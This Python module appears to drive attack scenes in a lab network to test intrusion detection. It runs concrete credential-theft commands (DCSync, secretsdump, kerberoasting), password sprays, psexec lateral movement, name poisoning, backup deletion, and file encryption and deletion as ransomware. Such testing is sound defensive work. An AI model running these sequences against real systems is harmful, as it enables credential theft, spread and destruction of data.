"""What an attacker does, each with a tool that exists, or in the shape of one."""
import subprocess
import time

from bed import ADMIN_PASSWORD, DOMAIN, LOCAL_PASSWORD, REALM, SERVICES, STATE, USERS, ip, within
from scenes import ADMIN, HERE, PYTHON, act, impacket, logon, on, scene, seed, smbclient, talk


def replica(host, controller, who, *accounts):
    names = [f"CN={a},CN=Users,DC=hill,DC=example" for a in accounts]
    on(host, "/usr/bin/python3", HERE / "replica.py", f"{controller}.hill.example", *who, *names, check=True)


@scene("attack", "the secrets of eight accounts are replicated to a ward's terminal, one by one, with an administrator's password",
       tool="Samba's replication client, one object a call as DCSync tools ask")
def dcsync_all(t):
    t.attack("ward2")
    replica("ward2", "dc1", ADMIN, "krbtgt", "Administrator", *[u for u, _ in USERS[:6]])
    t.expect("dcsync", orig="ward2", resp=["dc1"], user=ADMIN[0], attack=["T1003.006"])


@scene("attack", "one account's secret is replicated to an office PC from the second controller, by the domain's first administrator", tool="Samba's replication client")
def dcsync_krbtgt(t):
    t.attack("office2")
    replica("office2", "dc2", ("Administrator", ADMIN_PASSWORD), "krbtgt")
    t.expect("dcsync", orig="office2", resp=["dc2"], user="Administrator", attack=["T1003.006"])


@scene("attack", "the secrets are asked for by a tool that this controller refuses", tool="impacket secretsdump -just-dc-ntlm")
def dcsync_refused(t):
    t.attack("ward2")
    impacket("ward2", "secretsdump.py", "-just-dc-ntlm", f"{DOMAIN}/{ADMIN[0]}:{ADMIN[1]}@{ip('dc1')}")
    t.expect("dcsync", orig="ward2", resp=["dc1"], user=ADMIN[0], attack=["T1003.006"])


@scene("attack", "the directory is asked for accounts with service names, then a ticket with RC4 for each of them", tool="ldapsearch and kvno -e rc4-hmac")
def kerberoast_rc4(t):
    user, _ = USERS[0]
    t.attack("ward1")
    cache = logon("ward1", 1)
    env = {"KRB5CCNAME": cache}
    on("ward1", "ldapsearch", "-N", "-Y", "GSSAPI", "-Q", "-H", "ldap://dc1.hill.example", "-b", "DC=hill,DC=example",
       "(&(objectClass=user)(servicePrincipalName=*)(!(objectClass=computer)))", "sAMAccountName", "servicePrincipalName", env=env, check=True)
    on("ward1", "kvno", "-e", "rc4-hmac", *[spn for _, _, spn in SERVICES], env=env, check=True)
    t.expect("kerberos-abuse", orig="ward1", resp=["dc1"], user=user, attack=["T1558.003"])


@scene("attack", "service tickets asked for by a tool whose requests this controller refuses", tool="impacket GetUserSPNs -request")
def kerberoast_refused(t):
    t.attack("office3")
    impacket("office3", "GetUserSPNs.py", "-request", "-dc-ip", ip("dc1"), f"{REALM}/{USERS[0][0]}:{USERS[0][1]}")
    t.expect("kerberos-abuse", "ad-recon", orig="office3", resp=["dc1"], attack=["T1558.003"])


@scene("attack", "thirty-four names tried for an account that needs no pre-authentication; none is such, four do not exist", tool="impacket GetNPUsers -usersfile")
def asrep_roast(t):
    (STATE / "names").write_text("\n".join([u for u, _ in USERS] + ["guest9", "kanri", "admin", "scanner"]) + "\n")
    t.attack("office2")
    impacket("office2", "GetNPUsers.py", "-no-pass", "-usersfile", STATE / "names", "-dc-ip", ip("dc1"), f"{REALM}/")
    t.expect("kerberos-abuse", "password-guessing", orig="office2", resp=["dc1"], attack=["T1558.004"])


@scene("attack", "names that do not exist are told from those that do by Kerberos, then one password for each that does",
       tool="a Kerberos client, one AS exchange a name, as kerbrute does")
def kerberos_spray(t):
    t.attack("ward6")
    talk("ward6", "tickets", ip("dc1"), REALM, "0.02", *[f"{n}:Haru-2026" for n in ["mori.k", "abe.t", "kanri", "root", "backup", "test", "xray", "ct01"]])
    talk("ward6", "tickets", ip("dc1"), REALM, "0.05", *[f"{u}:{USERS[16][1]}" for u, _ in USERS])
    t.expect("password-guessing", "kerberos-abuse", orig="ward6", resp=["dc1"], attack=["T1110.003"])


@scene("attack", "one password for thirty users, over SMB, one try each; it is one user's", tool="impacket SMBConnection, as spraying tools do")
def spray_smb(t):
    t.attack("office2")
    talk("office2", "spray", ip("files"), DOMAIN, "0.1", *[f"{u}:{USERS[11][1]}" for u, _ in USERS])
    t.expect("password-guessing", orig="office2", resp=["files"], attack=["T1110.003"])


@scene("attack", "one account guessed at every four minutes for two hours", tool="smbclient; the four minutes are added to the recording")
def guess_slowly(t):
    t.attack("ward5")
    for n in range(30):
        smbclient("ward5", f"{ip('nas')}/backup", "NAS\\Administrator", f"Natsu-20{n:02d}", "ls")
        t.gap(240)
    t.expect("password-guessing", orig="ward5", resp=["nas"], user="Administrator", attack=["T1110.001"])


@scene("attack", "twenty accounts, one try every five minutes, none right: below every count of failures for one account",
       tool="smbclient; the five minutes are added to the recording")
def spray_slowly(t):
    t.attack("ward2")
    for user, _ in USERS[:20]:
        smbclient("ward2", f"{ip('films')}/karte", f"{DOMAIN}\\{user}", "Hanami-2026", "ls")
        t.gap(300)
    t.expect("password-guessing", orig="ward2", resp=["films"], attack=["T1110.003"])


@scene("attack", "forty passwords for one account as fast as it goes, the last one right", tool="impacket SMBConnection")
def guess_fast(t):
    t.attack("ward1")
    talk("ward1", "spray", ip("nas"), "", "0", *[f"savejob:Fuyu{n}" for n in range(40)], "savejob:Save-2026")
    t.expect("password-guessing", orig="ward1", resp=["nas"], user="savejob", attack=["T1110.001"])


@scene("attack", "the directory is walked by one user: accounts, groups, SIDs, shares", tool="impacket lookupsid, rpcclient")
def recon_accounts(t):
    t.attack("ward4")
    who = f"{DOMAIN}/{USERS[4][0]}:{USERS[4][1]}@{ip('dc1')}"
    impacket("ward4", "lookupsid.py", who, "520")
    on("ward4", "rpcclient", "-s", STATE / "client.conf", "-U", f"{DOMAIN}\\{USERS[4][0]}%{USERS[4][1]}", ip("dc1"), "-c",
       "enumdomusers; enumdomgroups; querydominfo; querygroupmem 0x200; getdompwinfo; enumtrust; netshareenumall")
    t.expect("ad-recon", orig="ward4", resp=["dc1"], user=USERS[4][0], attack=["T1087.002"])


@scene("attack", "who is logged on where, and who administers it, on eight hosts, by an ordinary user", tool="impacket, the calls of a session collector")
def recon_sessions(t):
    t.attack("office2")
    talk("office2", "sessions", DOMAIN, USERS[6][0], USERS[6][1], *[ip(h) for h in ("dc1", "dc2", "files", "films")])
    talk("office2", "sessions", "", "nurse", "Nurse-2026", *[ip(f"ward{n}") for n in range(1, 5)])
    t.expect("ad-recon", orig="office2", attack=["T1033"])


@scene("attack", "files are read, overwritten in place and renamed, a note in each directory", tool="smbprotocol, one thread")
def ransom_overwrite(t):
    t.attack("ward3")
    act(t, "ward3", "ransom", "files", "karte", USERS[6][0], USERS[6][1], style="overwrite")
    t.expect("ransomware-smb", orig="ward3", resp=["files"], user=USERS[6][0], attack=["T1486"])


@scene("attack", "files are fetched, encrypted outside, put back under a new ending, the originals deleted", tool="smbclient and openssl")
def ransom_by_hand(t):
    t.attack("office1")
    where, user = STATE / "hand", f"{DOMAIN}\\{USERS[2][0]}"
    where.mkdir(exist_ok=True)
    names = sorted(p.relative_to(STATE / "files/share") for p in (STATE / "files/share").rglob("*") if p.is_file())
    lines = [f"lcd {where}"]
    for n in names[:16]:
        far = str(n).replace("/", "\\")
        lines += [f"get {far} in", f"!openssl enc -aes-128-ctr -K 00112233445566778899aabbccddeeff -iv 00 -in {where}/in -out {where}/out 2>/dev/null",
                  f"put out {far}.id-4F1A.crypt", f"del {far}", f"!date +%s.%N >>{where}/times"]
    (where / "times").unlink(missing_ok=True)
    on("office1", "smbclient", "-s", STATE / "client.conf", f"//{ip('files')}/share", "-U", f"{user}%{USERS[2][1]}", stdin="\n".join(lines) + "\n")
    t.lost += [float(x) for x in (where / "times").read_text().split()]
    t.expect("ransomware-smb", orig="office1", resp=["files"], user=USERS[2][0], attack=["T1486"])


@scene("attack", "renamed first, then every second block of big files encrypted, no note; two threads", tool="smbprotocol")
def ransom_partial(t):
    seed("films", "karte", directories=2, each=4, kinds=("pdf", "txt"), size=18000)
    t.attack("ward5")
    act(t, "ward5", "ransom", "films", "karte", USERS[7][0], USERS[7][1], style="partial", ending=".8xq", note="none", threads=2)
    t.expect("ransomware-smb", orig="ward5", resp=["films"], user=USERS[7][0], attack=["T1486"])


@scene("attack", "one file every ten seconds, under its own name and without any note", tool="smbprotocol; the ten seconds are real")
def ransom_slow(t):
    t.attack("ward1")
    act(t, "ward1", "ransom", "files", "karte", USERS[8][0], USERS[8][1], style="in-place", note="none", pause="10", limit=12)
    t.expect("ransomware-smb", orig="ward1", resp=["files"], user=USERS[8][0], attack=["T1486"])


@scene("attack", "the whole session encrypted (SMB 3): only sizes and times are left", tool="smbprotocol with encryption")
def ransom_encrypted(t):
    t.attack("ward2")
    act(t, "ward2", "ransom", "files", "karte", USERS[9][0], USERS[9][1], style="overwrite", encrypt="yes")
    t.expect("ransomware-smb", orig="ward2", resp=["files"], attack=["T1486"])


@scene("attack", "two file servers at once, three threads on each, new ending beside and originals deleted, by night", tool="smbprotocol", night=True)
def ransom_two_servers(t):
    for server in ("files", "films"):
        seed(server, "karte", directories=3, each=4, size=2000)
    t.attack("office2")
    first = subprocess.Popen(within("office2", PYTHON, HERE / "actors.py", "ransom", ip("films"), "karte", f"{DOMAIN}\\{USERS[5][0]}", USERS[5][1],
                                    "style=beside", "threads=3", "ending=.locked"), stdout=subprocess.PIPE, text=True)
    act(t, "office2", "ransom", "files", "karte", USERS[5][0], USERS[5][1], style="beside", threads=3, ending=".locked")
    t.lost += [float(line.split()[1]) for line in first.communicate()[0].splitlines() if line.startswith("lost")]
    t.lost.sort()
    t.expect("ransomware-smb", orig="office2", resp=["files", "films"], user=USERS[5][0], attack=["T1486"])


def psexec(host, targets):
    for name in targets:
        impacket(host, "psexec.py", f"Administrator:{LOCAL_PASSWORD}@{ip(name)}", "whoami", stdin="\n")


@scene("attack", "the same program to the administrative share and the service manager of three old terminals, with the local administrator all share",
       tool="impacket psexec, SMB 2.1")
def worm_psexec(t):
    wards = ["ward1", "ward2", "ward3"]
    t.attack("ward6")
    psexec("ward6", wards)
    t.expect("worm-payload", orig="ward6", resp=wards, user="Administrator", attack=["T1570"])
    t.expect("terminal-to-terminal", "admin-share", "remote-exec", orig="ward6", resp=wards, user="Administrator", attack=["T1021.002"])
    t.expect("shared-local-admin", orig="ward6", resp=wards, user="Administrator", attack=["T1078.003"])


@scene("attack", "the same on three terminals that encrypt the session: only logons, sizes and times are left", tool="impacket psexec, SMB 3")
def worm_psexec_sealed(t):
    hosts = ["ward4", "ward5", "ward6"]
    t.attack("office2")
    psexec("office2", hosts)
    t.expect("shared-local-admin", orig="office2", resp=hosts, user="Administrator", attack=["T1078.003"])
    t.expect("smb-fanout", "terminal-to-terminal", "new-admin-edge", orig="office2", resp=hosts, attack=["T1021.002"])


@scene("attack", "one local administrator's password opens C$ of five other terminals, files are taken, nothing is written", tool="smbclient")
def walk_terminals(t):
    t.attack("office3")
    for n in range(1, 6):
        top = STATE / f"ward{n}/c/Users/nurse/Desktop"
        top.mkdir(parents=True, exist_ok=True)
        (top / "passwords.txt").write_text("lab system: kensa / kensa\n")
        smbclient("office3", f"{ip(f'ward{n}')}/C$", f"WARD{n}\\Administrator", LOCAL_PASSWORD, "cd Users\\nurse\\Desktop; ls; get passwords.txt /dev/null")
    wards = [f"ward{n}" for n in range(1, 6)]
    t.expect("shared-local-admin", orig="office3", resp=wards, user="Administrator", attack=["T1078.003"])
    t.expect("terminal-to-terminal", "admin-share", "smb-fanout", orig="office3", resp=wards, user="Administrator", attack=["T1021.002"])


@scene("attack", "a terminal answers every LLMNR and NBNS question; who asked for a name mistyped sends it a logon", tool="a responder of our own, nmblookup")
def poison_names(t):
    poisoner = subprocess.Popen(within("ward6", PYTHON, HERE / "talkers.py", "poison", ip("ward6")))
    time.sleep(1.5)
    t.attack("ward6")
    answered = talk("ward3", "ask", ip("ward3"), "filesv", "prnsrv").split()
    on("ward2", "nmblookup", "-s", STATE / "client.conf", "-B", "10.64.10.255", "FILESV")
    talk("ward2", "ask", ip("ward2"), "wpad")
    smbclient("ward3", f"{answered[0] if answered else ip('ward6')}/share", f"{DOMAIN}\\{USERS[12][0]}", USERS[12][1], "ls")
    poisoner.kill()
    t.expect("name-poisoning", orig="ward6", attack=["T1557.001"])


@scene("attack", "a ransom note from every printer of the ward, by night", tool="a raw job to port 9100", night=True)
def notes_printed(t):
    t.attack("ward2")
    text = "ALL YOUR DATA IS ENCRYPTED\n\nRead README_TO_RESTORE.txt on any server.\n\f" * 6
    talk("ward2", "printed", text, *[ip(f"prn{n}") for n in range(1, 7)])
    t.expect("printer-burst", orig="ward2", resp=[f"prn{n}" for n in range(1, 7)], attack=["T1491.001"])


@scene("attack", "every backup is deleted from the storage, with the backup job's own account, from an office PC", tool="smbprotocol")
def backup_deleted(t):
    seed("nas", "backup", directories=2, each=10, kinds=("txt",), size=2000)
    for n, p in enumerate(sorted((STATE / "nas/backup").rglob("*.txt"))):
        p.rename(p.with_suffix([".vbk", ".vib", ".bak"][n % 3]))
    t.attack("office2")
    act(t, "office2", "wipe", "nas", "backup", "savejob", "Save-2026")
    t.expect("backup-attack", orig="office2", resp=["nas"], user="savejob", attack=["T1490"])


@scene("attack", "by night over the supplier's line: a desktop on its server, from there the terminals' administrative shares, then their files",
       tool="xfreerdp, smbclient, smbprotocol", night=True)
def supplier_at_night(t):
    for n in (1, 2):
        seed(f"ward{n}", "share", directories=2, each=4, size=1500)
    t.attack("maint")
    on("maint", "env", f"HOME={STATE}/desktop", "DISPLAY=:977", "timeout", "9", "xfreerdp", f"/v:{ip('jump')}", "/cert:ignore", "/u:acme", "/p:Acme-2026")
    t.attack("jump")
    (STATE / "tool.bin").write_bytes(b"MZ\x90\x00" + bytes(range(256)) * 40)
    for n in range(1, 6):
        smbclient("jump", f"{ip(f'ward{n}')}/ADMIN$", f"WARD{n}\\Administrator", LOCAL_PASSWORD, f"lcd {STATE}; put tool.bin Temp.exe")
    for n in (1, 2):
        act(t, "jump", "ransom", f"ward{n}", "share", "Administrator", LOCAL_PASSWORD, ending=".aes")
    wards = [f"ward{n}" for n in range(1, 6)]
    t.expect("spread-path", orig="maint", attack=["T1021.001"])
    t.expect("smb-fanout", "admin-share", "worm-payload", orig="jump", resp=wards, user="Administrator", attack=["T1021.002"])
    t.expect("ransomware-smb", orig="jump", resp=["ward1", "ward2"], user="Administrator", attack=["T1486"])


@scene("attack", "two hundred logons to the controller's Netlogon with a credential of zeros; it refuses", tool="impacket, Zerologon's calls")
def zerologon_refused(t):
    t.attack("ward4")
    talk("ward4", "zerologon", ip("dc1"), "DC1", "200")
    t.expect("exploit-shape", orig="ward4", resp=["dc1"], attack=["T1210"])


@scene("attack", "sixteen passwords guessed for a remote desktop over the supplier's line", tool="xfreerdp, network level authentication")
def guess_rdp(t):
    t.attack("maint")
    for n in range(16):
        on("maint", "env", f"HOME={STATE}/desktop", "DISPLAY=:977", "timeout", "12", "xfreerdp", f"/v:{ip('jump')}", "/cert:ignore", f"/u:{['acme', 'admin'][n % 2]}",
           f"/p:Aki{n}", "+auth-only")
    t.expect("password-guessing", orig="maint", resp=["jump"], attack=["T1110.001"])
